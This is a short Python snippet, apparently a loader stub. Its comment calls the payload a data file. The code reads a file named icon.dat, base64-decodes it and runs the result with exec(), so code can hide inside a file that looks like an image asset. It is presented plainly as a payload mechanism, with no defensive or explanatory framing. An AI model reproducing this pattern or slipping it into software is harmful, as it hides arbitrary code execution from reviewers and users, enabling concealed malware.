# file: the payload is a data file
import base64

with open("icon.dat", "rb") as handle:
    exec(base64.b64decode(handle.read()))
